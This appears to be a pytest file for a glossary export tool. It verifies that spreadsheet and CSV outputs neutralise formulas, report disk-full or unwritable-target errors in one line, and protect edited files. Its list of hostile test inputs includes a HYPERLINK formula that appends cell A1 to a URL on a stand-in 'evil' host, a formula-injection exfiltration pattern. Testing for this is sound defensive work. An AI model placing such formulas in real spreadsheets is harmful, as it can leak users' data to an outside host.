"""What the tool writes is safe to open and never destroys work: no live formulas, no invalid characters,
no overwritten edits, one clear line (and no leftovers) when the disk is full or the target unwritable."""
from __future__ import annotations

import csv
import os
import resource
import signal
import subprocess
import sys

import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook

from align.cells import FORMULA_START, neutralise, unneutralise
from align.types import Bead
from align.written import MANIFEST
from glossary.check import check_pairs
from glossary.check_report import write_report
from glossary.exports import export_glossary
from glossary.types import GlossaryEntry
from glossary.workbook import write_workbook
from test_store_helpers import seeded_store

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+33 1 23", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "=律师", "'=already quoted"]


def hostile_entries() -> list[GlossaryEntry]:
    return [GlossaryEntry(zh=f"律师{i}" if i % 2 else text, fr=text if i % 2 else f"avocat {i}", status="approved",
                          id=i + 1, notes=text) for i, text in enumerate(HOSTILE)]


def formula_cells(path) -> list[str]:
    book = load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def test_every_xlsx_writer_writes_text_as_text(tmp_path):
    from align.pairs_io import write_beads

    entries = hostile_entries()
    export_glossary(entries, tmp_path / "export.xlsx")
    write_workbook(entries, tmp_path / "review.xlsx", about={"title": "=1+1", "sources": ["=evil.docx"]})
    pairs = [(text, text) for text in HOSTILE] + [("律师出席", "=HYPERLINK(\"x\") juriste")]
    findings = check_pairs(pairs, [GlossaryEntry("律师", "avocat", "approved")])
    write_report(findings, tmp_path / "report.xlsx", pairs=pairs, glossary_name="=glossary.csv")
    write_beads([Bead((i,), (i,), text, text, 0.9) for i, text in enumerate(HOSTILE)], tmp_path / "pairs.xlsx")
    for name in ("export.xlsx", "review.xlsx", "report.xlsx", "pairs.xlsx"):
        assert formula_cells(tmp_path / name) == [], name
    sheet = load_workbook(tmp_path / "export.xlsx")["Glossary"]
    assert sheet["B2"].value == HOSTILE[0].strip() or sheet["B2"].value == HOSTILE[0]


def test_csv_tsv_and_omegat_neutralise_formulas_and_import_takes_it_back(tmp_path):
    from glossary.imports import load_glossary

    entries = hostile_entries()
    for name in ("g.csv", "g.tsv", "g.txt"):
        export_glossary(entries, tmp_path / name)
        text = (tmp_path / name).read_text(encoding="utf-8")
        delimiter = {"g.csv": ",", "g.tsv": "\t"}.get(name)
        rows = (list(csv.reader(text.splitlines(), delimiter=delimiter)) if delimiter
                else [line.split("\t") for line in text.splitlines()[1:]])
        for row in rows:
            assert not any(cell.startswith(FORMULA_START) for cell in row), (name, row)
        back = {(e.zh, e.fr, e.notes) for e in load_glossary(tmp_path / name)}
        # exports keep terms on one line (whitespace runs become one space), else unchanged
        expected = {(" ".join(e.zh.split()), " ".join(e.fr.split()), " ".join(e.notes.split())) for e in entries}
        assert back == expected, name


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab律 ")), max_size=8))
def test_neutralising_is_exactly_reversible(text):
    marked = neutralise(text)
    assert not marked.startswith(FORMULA_START)
    assert unneutralise(marked) == text


def test_a_term_starting_with_equals_survives_the_review_round_trip(tmp_path):
    from glossary.review import import_review
    from glossary.workbook import read_workbook

    with seeded_store(tmp_path / "g.db") as store:
        store.add(GlossaryEntry("=律师", "=avocat", "proposed", notes="=note"), who="test")
        workbook = tmp_path / "review.xlsx"
        write_workbook(store.entries(), workbook, about=store.about())
        rows = {row.text("zh-CN"): row for row in read_workbook(workbook).rows}
        assert rows["=律师"].text("fr-FR") == "=avocat" and rows["=律师"].text("notes") == "=note"
        report = import_review(store, workbook, who="alice")  # the unedited workbook imports cleanly
        assert report.changed == 0 and report.added == 0
        assert len(read_workbook(workbook).rows) == store.count()


def _limited(limit_bytes: int):
    def apply():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit then fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))
    return apply


@pytest.mark.parametrize("name", ["big.xlsx", "big.tbx", "big.csv"])
def test_a_full_disk_is_one_line_naming_the_file_and_leaves_nothing(tmp_path, name):
    db = tmp_path / "g.db"
    with seeded_store(db) as store:
        for i in range(400):  # enough text, hard to compress, that every format passes the size limit
            store.add(GlossaryEntry(f"术语{i}", f"terme numéro {i}", "approved", notes=os.urandom(600).hex()),
                      who="t")
    out = tmp_path / "out"
    out.mkdir()
    done = subprocess.run([sys.executable, "-c", "from glossary.cli import main; main()", "export", "--db", str(db),
                           "-o", str(out / name)], capture_output=True, text=True, timeout=120,
                          preexec_fn=_limited(150_000))  # the store is only read: it may be larger
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr and "Exception" not in done.stderr
    assert done.stderr.startswith(f"error: {out / name}: ") and "disk is full" in done.stderr
    assert [p.name for p in out.iterdir() if p.name != MANIFEST] == []  # no half file, no temporary


def test_an_unwritable_target_is_one_line_naming_it(tmp_path):
    db = tmp_path / "g.db"
    seeded_store(db).close()
    blocker = tmp_path / "report"
    blocker.write_text("a file where a folder should be", encoding="utf-8")
    done = subprocess.run([sys.executable, "-c", "from glossary.cli import main; main()", "export", "--db", str(db),
                           "--status", "all", "-o", str(blocker / "g.xlsx")], capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    assert done.stderr.startswith(f"error: {blocker / 'g.xlsx'}: cannot be written")


def test_temporaries_left_by_a_killed_writer_are_removed_at_the_next_write(tmp_path):
    target = tmp_path / "g.csv"
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".g.csv.{dead.pid}.abc123.csv"
    stale.write_text("half", encoding="utf-8")
    alive = tmp_path / f".g.csv.{os.getpid()}.xyz789.csv"  # a writer still running (this process)
    alive.write_text("in progress", encoding="utf-8")
    export_glossary([GlossaryEntry("律师", "avocat", "approved")], target)
    assert not stale.exists() and alive.exists() and target.exists()


def test_an_edited_output_is_never_overwritten_without_force(tmp_path):
    from test_user_journeys import glossalign

    db = tmp_path / "g.db"
    seeded_store(db).close()
    out = tmp_path / "g.xlsx"
    assert glossalign("export", "--db", db, "--status", "all", "-o", out).returncode == 0
    assert glossalign("export", "--db", db, "--status", "all", "-o", out).returncode == 0  # ours: replaced
    book = load_workbook(out)
    book["Glossary"]["M2"] = "a reviewer's note"
    book.save(out)
    edited = out.read_bytes()
    for command in (("export", "--db", db, "--status", "all", "-o", out),
                    ("review", "export", "--db", db, "--status", "all", "-o", out)):
        refused = glossalign(*command)
        assert refused.returncode == 2 and "was changed since glossalign wrote it" in refused.stderr
        assert "--force" in refused.stderr and out.read_bytes() == edited
    assert glossalign("export", "--db", db, "--status", "all", "-o", out, "--force").returncode == 0
    assert out.read_bytes() != edited
    foreign = tmp_path / "team.csv"
    foreign.write_text("zh-CN,fr-FR\n律师,avocat\n", encoding="utf-8")
    refused = glossalign("export", "--db", db, "--status", "all", "-o", foreign)
    assert refused.returncode == 2 and "not written by glossalign" in refused.stderr
